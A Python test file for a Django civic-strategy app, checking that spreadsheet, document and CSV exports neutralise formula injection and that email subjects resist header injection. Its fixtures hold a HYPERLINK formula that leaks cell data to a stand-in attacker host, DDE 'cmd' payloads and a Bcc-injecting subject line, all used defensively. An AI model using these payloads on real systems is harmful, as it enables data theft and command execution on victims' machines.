"""Exports never carry live formulas nor fail on control characters; email subjects are one
line. The three rules live in ``safecity.engine.safe_text``; every export uses them."""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from safecity.engine.safe_text import csv_cell, header_text, is_formula_like, xml_text
from safecity.web.strategy.chasing import send_reminders

HOSTILE = {
    "action": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the update")',
    "priority": "+cmd|' /C calc'!A0",
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "indicator": "-2+3+cmd|' /C calc'!A0",
    "update": "Bad\x0bcharacters\x08 pasted\x1f from Word",  # (PostgreSQL refuses NUL)
}


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
                                  '=HYPERLINK("x")', "-", "+", "=", "- bullet point"])
def test_text_a_spreadsheet_would_run_is_formula_like(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.5", "+3", "-4%", "1e-3", "Police", "", "a=b", " =1"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert not is_formula_like(text)
    assert csv_cell(text) == text
    assert csv_cell(-12.5) == -12.5 and csv_cell(None) is None


def test_characters_xml_cannot_hold_are_removed_and_line_breaks_kept():
    assert xml_text("a\x00b\x0bc\x1fd\ufffee\tf\ng\rh") == "abcde\tf\ng\rh"
    assert xml_text("caf\u00e9 \u2014 \U0001f600") == "caf\u00e9 \u2014 \U0001f600"


def test_a_header_is_always_one_line():
    assert header_text("Update needed: Winter\r\nBcc: everyone@example.org") == \
        "Update needed: Winter Bcc: everyone@example.org"
    assert header_text("a\u2028b\x85c\x0bd\te") == "a b c d e"


@pytest.fixture
def hostile(world):
    from safecity.web.strategy.updates import approve_update, save_update
    from safecity.web.strategy.models import Update

    world.police_action.text = HOSTILE["action"] + "\x0b"
    world.police_action.save()
    world.priority.title = HOSTILE["priority"]
    world.priority.save()
    world.agencies["police"].name = HOSTILE["agency"]
    world.agencies["police"].save()
    world.indicator.name = HOSTILE["indicator"]
    world.indicator.save()
    update = save_update(Update(cycle=world.closed, action=world.joint_action),
                         world.users["council_lead"], rag="green", text=HOSTILE["update"],
                         expected_version=0, submit=True)
    approve_update(update, world.users["coordinator"], expected_version=update.version)
    return world


def test_the_scorecard_workbook_has_no_formula_and_survives_control_characters(client,
                                                                               hostile):
    client.force_login(hostile.users["councillor"])
    response = client.get(reverse("reports:scorecard_xlsx", args=[hostile.strategy.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # each hostile text is there, as typed (less what XML cannot hold), as plain text
    for key in ("action", "priority", "agency", "indicator"):
        assert any(HOSTILE[key] in t for t in texts), key


def test_the_papers_survive_control_characters(client, hostile):
    import docx

    client.force_login(hostile.users["councillor"])
    response = client.get(reverse("reports:paper_docx", args=[hostile.closed.pk]))
    assert response.status_code == 200
    document = docx.Document(io.BytesIO(response.content))
    text = "\n".join(c.text for r in document.tables[0].rows for c in r.cells)
    assert "Badcharacters pasted from Word" in text and HOSTILE["action"] in text
    page = client.get(reverse("reports:paper", args=[hostile.closed.pk]))
    assert page.status_code == 200
    pdf = client.get(reverse("reports:paper_pdf", args=[hostile.closed.pk]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


def test_a_line_break_in_a_cycle_name_gives_a_one_line_subject(client, world):
    world.cycle.name = "Winter meeting\r\nBcc: everyone@example.org"
    world.cycle.save()
    assert send_reminders(world.cycle).emails > 0
    assert all("\n" not in m.subject and "\r" not in m.subject for m in mail.outbox)
    assert "Winter meeting Bcc: everyone@example.org" in mail.outbox[0].subject
    mail.outbox.clear()
    client.force_login(world.users["coordinator"])
    response = client.post(reverse("strategy:chase", args=[world.cycle.pk]))
    assert response.status_code == 302 and mail.outbox
    mail.outbox.clear()
    call_command("send_reminders", "--cycle", str(world.cycle.pk), stdout=io.StringIO())
    assert mail.outbox and all("\n" not in m.subject for m in mail.outbox)


def test_rejected_rows_are_written_without_live_formulas(tmp_path):
    from safecity.engine.ingest.records import _write_rejects

    path = tmp_path / "rejects.csv"
    _write_rejects(path, ["crime_type"], [["f.csv", "2", "bad date", "=cmd|' /C calc'!A0"],
                                          ["f.csv", "3", "bad date", "-12.5"]])
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1][-1] == "'=cmd|' /C calc'!A0" and rows[2][-1] == "-12.5"
